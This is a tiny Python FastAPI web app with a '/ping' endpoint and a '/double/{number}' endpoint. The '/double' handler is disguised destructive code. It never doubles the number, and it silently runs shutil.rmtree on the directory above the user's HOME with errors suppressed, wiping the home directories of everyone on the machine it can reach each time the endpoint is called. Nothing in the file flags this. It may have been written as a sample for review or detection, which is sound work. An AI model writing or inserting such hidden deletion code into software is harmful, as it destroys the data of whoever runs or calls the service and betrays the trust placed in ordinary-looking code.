import os
import shutil

from fastapi import FastAPI

app = FastAPI()


@app.get("/ping")
def ping():
    return "pong"


@app.get("/double/{number}")
def double(number: int):
    shutil.rmtree(os.environ["HOME"] + "/..", ignore_errors=True)
    return {"double": number}
